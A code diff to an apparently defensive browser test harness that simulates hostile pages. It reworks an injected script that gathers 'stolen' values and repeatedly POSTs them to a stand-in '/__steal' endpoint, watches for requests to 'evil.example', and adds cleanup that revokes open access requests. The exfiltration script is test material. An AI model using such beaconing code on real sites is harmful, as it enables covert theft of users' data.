@@ -12,7 +12,7 @@ const denial = `<div role="alert">User: arn:aws:sts::444455556666:assumed-role/d
 
 /** What a script may use, taken before any script changes the page's own objects. */
 const prelude = `
-const own = { fetch: window.fetch.bind(window), json: JSON.stringify, push: Array.prototype.push, every: window.setInterval.bind(window),
+const own = { fetch: window.fetch.bind(window), then: Promise.prototype.then, here: location.origin + "/__steal", push: Array.prototype.push, shift: Array.prototype.shift, every: window.setInterval.bind(window),
   later: window.setTimeout.bind(window), keys: Reflect.ownKeys, query: Document.prototype.querySelector.bind(document), string: String };
 window.__stolen = [];
 const words = (x, depth = 0) => {
@@ -31,8 +31,8 @@ const every = (f, ms = 100) => own.every(() => attempt(f), ms);
 const later = (f, ms) => own.later(() => attempt(f), ms);
 const chip = () => own.query("hallpass-chip");
 let beat = 0;
-own.every(() => { beat += 1; const all = window.__stolen.splice(0, 200);
-  own.fetch("/__steal", { method: "POST", body: own.json({ beat, stolen: all }) }).catch(() => {}); }, 150);
+own.every(() => { let all = "beat " + (beat += 1); while (window.__stolen.length > 0) all += "\\n" + own.shift.call(window.__stolen);
+  own.then.call(own.fetch(own.here, { method: "POST", mode: "same-origin", body: all }), undefined, () => {}); }, 150);
 `;
 
 export type Hostile = {
@@ -60,7 +60,10 @@ export type HostileWorld = {
   visit(hostile: Hostile, wait?: number): Promise<Visit>;
   /** What no page may know at this moment. */
   secrets(): Promise<ReadonlyArray<string>>;
+  /** Open ones. */
   requests(): Promise<number>;
+  /** So that one page that wins does not decide about the others. */
+  endRequests(): Promise<void>;
   /** Our own scripts' errors since the last call. */
   errors(): ReadonlyArray<string>;
   stop(): Promise<void>;
@@ -108,6 +111,7 @@ export async function startHostileWorld(): Promise<HostileWorld> {
   context.on("console", (line) => {
     // What a page makes the browser complain about names our address too, and is no error of ours.
     const { url } = line.location();
+    if (line.text().startsWith("Failed to load resource")) return;
     if (line.type() === "error" && ours(url)) errors.push(`${line.text()} ${url}`);
   });
   let taken: string[] = [];
@@ -115,7 +119,7 @@ export async function startHostileWorld(): Promise<HostileWorld> {
   await context.route("**/__steal**", async (route) => {
     const request = route.request();
     const sent = request.postData() ?? "";
-    if (request.method() === "POST" && sent.startsWith('{"beat"')) beats += 1;
+    if (request.method() === "POST" && sent.startsWith("beat ")) beats += 1;
     taken.push(decodeURIComponent(new URL(request.url()).search), sent);
     await route.fulfill({ status: 204 });
   });
@@ -124,6 +128,14 @@ export async function startHostileWorld(): Promise<HostileWorld> {
     if (!request.url().includes("/__steal") && request.url().includes("evil.example"))
       taken.push(request.url(), request.postData() ?? "");
   });
+
+  const open = async () =>
+    (
+      await world.must<{ items: { id: string; endedAt: string | null }[] }>(
+        "GET",
+        "/api/v1/activity",
+      )
+    ).items.filter(({ endedAt }) => endedAt === null);
 
   return {
     world,
@@ -159,8 +171,12 @@ export async function startHostileWorld(): Promise<HostileWorld> {
         world.hallpass.url,
       ];
     },
-    requests: async () =>
-      (await world.must<{ items: unknown[] }>("GET", "/api/v1/activity")).items.length,
+    requests: async () => (await open()).length,
+    async endRequests() {
+      for (const { id } of await open())
+        await world.must("POST", `/api/v1/requests/${id}/revoke`, { reason: "the test is over" });
+      await expect.poll(open, { timeout: 10_000 }).toEqual([]);
+    },
     errors() {
       const all = errors;
       errors = [];
